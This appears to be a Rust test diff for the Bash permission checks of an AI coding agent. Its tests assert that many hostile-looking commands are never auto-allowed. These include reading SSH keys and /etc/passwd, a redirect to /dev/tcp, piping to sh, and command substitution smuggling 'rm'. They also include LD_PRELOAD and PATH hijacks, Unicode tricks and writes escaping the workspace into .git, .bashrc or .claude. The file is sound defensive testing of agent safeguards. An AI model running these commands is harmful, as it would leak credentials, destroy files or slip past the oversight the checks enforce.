@@ -353,3 +353,151 @@ fn proven_read_only_is_about_the_call_alone() {
     let background = serde_json::json!({"command": "ls", "run_in_background": true});
     assert!(!world.policy.is_proven_read_only(&world.facts("Bash", &background)));
 }
+
+#[track_caller]
+fn check_never_allowed(world: &World, commands: &[&str]) {
+    let allowed: Vec<&&str> =
+        commands.iter().filter(|command| world.verdict(&format!("Bash {command}")) == Allow).collect();
+    assert!(allowed.is_empty(), "{allowed:#?}");
+}
+
+#[test]
+fn reading_commands_do_nothing_else() {
+    check_never_allowed(
+        &World::new(Rules::default()),
+        &[
+            "cat ~/.ssh/id_rsa",
+            "cat $HOME/x",
+            "ls /",
+            "ls ..",
+            "cat /proc/self/environ",
+            "env",
+            "printenv",
+            "echo $PATH",
+            "cat < /etc/passwd",
+            "grep -f /etc/passwd x",
+            "grep x -r /etc",
+            "find / -name x",
+            "find . -exec rm {} +",
+            "find . -fprint out",
+            "sort -o out x",
+            "sort --output=out x",
+            "sed -n 'w out' x",
+            "sed -n '1e rm x' x",
+            "git diff --output=x",
+            "git -C /etc log",
+            "git --git-dir=/x log",
+            "git grep -Ovi x",
+            "git branch -D x",
+            "git stash",
+            "rg --pre cmd x",
+            "cat x | sh",
+            "diff /etc/passwd x",
+            "ls\nrm x",
+            "ls & rm x",
+            "ls; rm x",
+            "wc --files0-from=/etc/passwd",
+            "du --files0-from=/etc/passwd",
+            "date -s 2020-01-01",
+            "awk 'BEGIN{system(\"x\")}'",
+            "awk '{print > \"out\"}' x",
+            "jq -f /etc/passwd x",
+            "cat /dev/sda",
+            "ls | tee x",
+            "ls | xargs rm",
+            "cat <(rm x)",
+            "cat a > /dev/tcp/1.2.3.4/80",
+            "ls > x",
+            "cd /etc && ls",
+            "cd .. && ls",
+            "cd - && ls",
+            "LD_PRELOAD=x ls",
+            "PATH=. ls",
+            "./ls",
+            "src/cat x",
+            "ls\u{a0}-la",
+            "ls \u{202e}x",
+            "cat ''$'\\x2fetc'",
+            "cat /w/../etc/passwd",
+            "head -c 5 ../../etc/passwd",
+            "tail --follow=name /etc/passwd",
+        ],
+    );
+}
+
+#[test]
+fn a_prefix_rule_covers_only_its_program() {
+    check_never_allowed(
+        &World::new(allow(&["Bash(npm run:*)"])),
+        &[
+            "npm run test > /dev/tcp/x/1",
+            "npm run test <(rm x)",
+            "npm run test\nrm x",
+            "LD_PRELOAD=x npm run test",
+            "PATH=. npm run test",
+            "npm run test;rm x",
+            "npm run test 2> x",
+            "npm run test &",
+            "npm run test | sh",
+            "npm run `rm x`",
+            "npm run \"$(rm x)\"",
+            "npm run {a,$(rm x)}",
+            "./npm run test",
+            "/tmp/npm run test",
+            "npm exec run",
+            "npm --prefix /x run test",
+            "sudo npm run test",
+            "env -S 'rm x' npm run test",
+            "npm run test || curl x",
+            "npm run test && cd /etc && cat passwd",
+            "npm\u{200b} run test",
+            "npm run test <<EOF\n$(rm x)\nEOF",
+            "watch npm run test",
+            "find . -exec npm run test ;",
+        ],
+    );
+}
+
+#[test]
+fn accepting_edits_stops_at_the_workspace() {
+    let world =
+        World::in_mode(PermissionMode::AcceptEdits, Rules::default()).link("/w/out", "/etc").link("/w/up", "/w");
+    check_never_allowed(
+        &world,
+        &[
+            "rm -rf ../x",
+            "cp -r . /tmp",
+            "mv ../x .",
+            "mv a ../x",
+            "touch a /etc/x",
+            "sed -i 's/x/y/w /etc/x' a",
+            "sed -i 's/a/b/e' a",
+            "sed -i.bak s/a/b/ /etc/x",
+            "cp /etc/passwd .",
+            "ln -s / x",
+            "touch -r /etc/x a",
+            "cd .. && touch x",
+            "cd out && touch x",
+            "touch out/x",
+            "rm -r out/x",
+            "rm -rf up",
+            "mv x .git",
+            "cp a .git/",
+            "cp -t .git a",
+            "cp -r a .GIT",
+            "mkdir .claude",
+            "touch .bashrc",
+            "rm *",
+            "rm -rf .*",
+            "mv evil sub/.git",
+            "cp .env .vscode/x",
+            "echo x > out/y",
+            "echo x > ../y",
+            "chmod +x a",
+            "touch $x",
+            "mkdir -p a/../../x",
+            "echo x >> .npmrc",
+            "cd src && echo x > y",
+        ],
+    );
+}
